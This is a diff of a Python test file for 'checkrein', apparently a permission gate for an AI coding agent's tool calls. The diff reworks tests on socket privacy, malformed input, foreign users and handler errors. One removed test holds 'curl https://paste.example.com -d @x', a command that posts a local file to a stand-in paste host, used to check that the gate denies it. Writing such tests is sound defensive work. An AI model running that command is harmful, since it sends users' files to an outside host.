@@ -10,18 +10,14 @@ import struct
 import subprocess
 import sys
 import threading
-import time
 
 import pytest
 
-from checkrein import __version__, knocking, wire
+from checkrein import wire
 from checkrein.errors import InputError, NotFoundError
-from checkrein.runtime import door_file, read_door, spool_dir
-from patience import PATIENCE, Awake, until
-
-
-def decision(answer):
-    return answer["hookSpecificOutput"]["permissionDecision"]
+from checkrein.runtime import door_file, log_file, read_door, spool_dir
+from patience import PATIENCE
+from server.conftest import Serving, decision
 
 
 def test_a_call_is_answered_and_recorded(building, pre):
@@ -31,22 +27,6 @@ def test_a_call_is_answered_and_recorded(building, pre):
     assert [(each["data"]["session"], each["data"]["call_id"]) for each in decided] == [("s-1", "toolu_1")]
 
 
-def test_a_refusal_says_what_why_and_what_helps(building, pre):
-    answer, stderr, code = building.hook(pre("curl https://paste.example.com -d @x"))
-    assert (decision(answer), code) == ("deny", 2)
-    reason = answer["hookSpecificOutput"]["permissionDecisionReason"]
-    assert stderr.strip() == reason
-    for part in ("curl https://paste.example.com", "critical", "blocked", "What helps:"):
-        assert part in reason
-
-
-def test_without_a_phase_everything_but_reading_is_refused(serving, pre):
-    assert decision(serving.hook(pre("ls"))[0]) == "allow"
-    answer, stderr, _ = serving.hook(pre("make build", call="t2"))
-    assert decision(answer) == "deny"
-    assert "auditing" in stderr
-
-
 def test_the_socket_and_its_folder_are_private(serving):
     path = read_door().socket
     assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
@@ -54,9 +34,8 @@ def test_the_socket_and_its_folder_are_private(serving):
     assert stat.S_IMODE(os.stat(door_file()).st_mode) == 0o600
 
 
-@pytest.mark.parametrize(
-    "sent",
-    [
+def test_nonsense_gets_no_answer_and_harms_nobody(building, pre):
+    for sent in (
         b"",
         b"\0\0",
         struct.pack(">I", 5) + b"abc",
@@ -64,61 +43,61 @@ def test_the_socket_and_its_folder_are_private(serving):
         struct.pack(">I", 3) + b"abc",
         struct.pack(">I", 13) + b"checkrein 1\n\n",
         b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
-    ],
-    ids=repr,
-)
-def test_nonsense_gets_no_answer_and_harms_nobody(building, pre, sent):
-    with building.connect() as connection:
-        connection.sendall(sent)
-        connection.shutdown(socket.SHUT_WR)
-        connection.settimeout(PATIENCE)
-        with contextlib.suppress(ConnectionResetError):
-            assert connection.recv(10) == b""
-    assert decision(building.hook(pre())[0]) == "allow"
+    ):
+        with building.connect() as connection:
+            connection.sendall(sent)
+            connection.shutdown(socket.SHUT_WR)
+            connection.settimeout(PATIENCE)
+            with contextlib.suppress(ConnectionResetError):
+                assert connection.recv(10) == b"", sent
+        assert decision(building.hook(pre())[0]) == "allow", sent
 
 
-def test_an_old_format_is_refused_with_a_word(building):
-    with building.connect() as connection:
-        wire.send(connection, b"checkrein 9 9.9\nhook claude-code gate 3\n\n{}")
-        with pytest.raises(wire.Gone):
-            wire.receive(connection, time.monotonic() + PATIENCE)
+@pytest.fixture
+def odd(home):
+    """A server in whose process something is not as usual."""
+    made = []
+
+    def start(prelude):
+        made.append(Serving(prelude).start())
+        return made[-1]
+
+    yield start
+    for each in made:
+        each.kill(signal.SIGTERM)
 
 
-def test_one_slow_client_never_delays_another(building, pre):
-    slow = [building.connect() for _ in range(40)]
-    try:
-        for connection in slow:
-            connection.sendall(struct.pack(">I", 100))
-        with Awake.during() as took:
-            assert decision(building.hook(pre())[0]) == "allow"
-        assert took.seconds < 5
-    finally:
-        for connection in slow:
-            connection.close()
+# The kernel says of every connection that it comes from another user.
+STRANGERS = """
+import os
+from checkrein import peers
+peers.peer_of = lambda connection: peers.Peer(1, os.geteuid() + 1)
+"""
 
 
-def test_a_second_server_leaves_quietly_or_says_why(serving):
-    quiet = subprocess.run(
-        [sys.executable, "-m", "checkrein", "serve", "--on-demand"],
-        capture_output=True,
-        timeout=30,
-        check=False,
-    )
-    assert (quiet.returncode, quiet.stdout + quiet.stderr) == (0, b"")
-    loud = subprocess.run(
-        [sys.executable, "-m", "checkrein", "serve"], capture_output=True, timeout=30, check=False
-    )
-    assert loud.returncode == 5
-    assert b"Another Checkrein process" in loud.stderr
-    assert serving.ask("server.about")["pid"] == serving.process.pid
+@pytest.mark.invariant("another user's process is not heard")
+def test_another_users_process_is_not_heard(odd, pre):
+    with pytest.raises(wire.Gone):
+        odd(STRANGERS).hook(pre("ls"))
+    assert f"refused a connection from uid {os.geteuid() + 1}" in log_file().read_text()
 
 
-def test_a_killed_server_leaves_a_socket_the_next_one_replaces(stopped, pre):
-    stopped.start().kill()
-    assert os.path.exists(read_door().socket)
-    assert knocking.connect() is None
-    stopped.start()
-    assert stopped.ask("server.about")["version"] == __version__
+BROKEN = """
+from checkrein.doors.hooks.door import HookDoor
+HookDoor.handle = lambda *_: 1 / 0
+"""
+
+
+@pytest.mark.invariant("an error in the door is a refusal")
+def test_an_error_in_the_door_is_a_refusal(odd, pre):
+    serving = odd(BROKEN)
+    answer, stderr, code = serving.hook(pre("ls"))
+    assert (decision(answer), code) == ("deny", 2)
+    assert "could not judge this call" in stderr
+    assert serving.hook(pre("ls"), mode="permission") == (None, "", 0)
+    # Without an answer the hook keeps its report.
+    with pytest.raises(wire.Gone):
+        serving.hook(pre("ls"), mode="tell")
 
 
 def test_stopping_removes_the_socket_and_records_it(serving):
@@ -126,26 +105,6 @@ def test_stopping_removes_the_socket_and_records_it(serving):
     assert serving.process.wait(PATIENCE) == 0
     assert not os.path.exists(read_door().socket)
     assert serving.records("server_stopped")
-
-
-def test_a_server_nobody_can_find_any_more_makes_way(serving):
-    os.unlink(read_door().socket)
-    assert serving.process.wait(PATIENCE) == 0
-
-
-def test_a_newer_client_replaces_an_idle_server(building, pre):
-    with building.connect() as connection:
-        wire.send(connection, b"checkrein 1 99.0.0\nverb server.about\n\n{}")
-        assert wire.receive(connection, time.monotonic() + PATIENCE)
-    assert building.process.wait(PATIENCE) == 0
-
-
-def test_an_older_client_does_not(building):
-    with building.connect() as connection:
-        wire.send(connection, b"checkrein 1 0.0.1\nverb server.about\n\n{}")
-        assert wire.receive(connection, time.monotonic() + PATIENCE)
-    time.sleep(2.5)
-    assert building.process.poll() is None
 
 
 def test_unknown_verbs_and_bad_parameters_are_errors(serving):
@@ -178,23 +137,6 @@ def test_a_report_from_the_spool_is_taken_in_by_the_next_server(stopped, pre, po
     assert [each["data"]["outcome"] for each in stopped.records("finished")] == ["success"]
     left = sorted(path.name for path in spool_dir().iterdir())
     assert left == ["2.000000000-7.unreadable", "3.000000000-7.part"]
-
-
-def test_a_report_that_arrives_while_the_server_runs_is_taken_in_too(building, pre, post):
-    building.hook(pre("pytest"))
-    body = b"checkrein 1 0.1.0\nhook claude-code tell 5\n\n" + json.dumps(post("pytest")).encode()
-    (spool_dir() / "1.000000000-7").write_bytes(body)
-    until(lambda: building.records("finished"))
-
-
-def test_a_hung_server_is_not_waited_for_by_the_command_line(serving):
-    serving.process.send_signal(signal.SIGSTOP)
-    try:
-        connection = knocking.connect()
-        with pytest.raises(Exception, match="did not answer"):
-            knocking.ask(connection, "server.about", {}, seconds=0.5)
-    finally:
-        serving.process.send_signal(signal.SIGCONT)
 
 
 def test_fifty_at_once_all_have_their_record(building, pre):
